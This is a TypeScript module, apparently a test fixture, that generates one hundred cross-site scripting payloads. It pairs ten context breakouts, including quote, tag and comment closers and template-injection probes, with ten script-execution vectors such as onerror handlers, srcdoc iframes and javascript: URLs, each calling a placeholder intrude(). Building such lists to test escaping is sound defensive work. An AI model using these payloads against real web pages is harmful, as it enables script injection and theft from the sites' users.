/** A hundred texts that become script wherever a page forgets to treat text as text. Each calls `intrude()`. */

/** What runs once it stands on a page as markup. */
const runs = [
  '<script>intrude()</script>',
  '<img src=x onerror=intrude()>',
  '<svg onload=intrude()></svg>',
  '<details open ontoggle=intrude()>',
  '<input autofocus onfocus=intrude()>',
  '<iframe srcdoc="<script>parent.intrude()</script>"></iframe>',
  '<a href="javascript:intrude()" id=bait>x</a>',
  '<style onload=intrude()></style>',
  '<math><mtext></p><img src=x onerror=intrude()></math>',
  'javascript:intrude()',
]

/** What ends the place that the text stands in: a text, an attribute, a field, a title, a comment, a script. */
const breaks = [
  '',
  '">',
  "'>",
  '" onmouseover=intrude() autofocus onfocus=intrude() x="',
  '</textarea>',
  '</title></code>',
  '--><!--',
  '</script>',
  '&lt;b&gt;&#34;&#x3e;',
  '{{7*7}}${7*7}<%=7*7%>\u2028\u0000\r\n'.replace('\u0000', '\u0001'),
]

export const payloads: readonly string[] = breaks.flatMap((end) => runs.map((run) => `${end}${run}`))
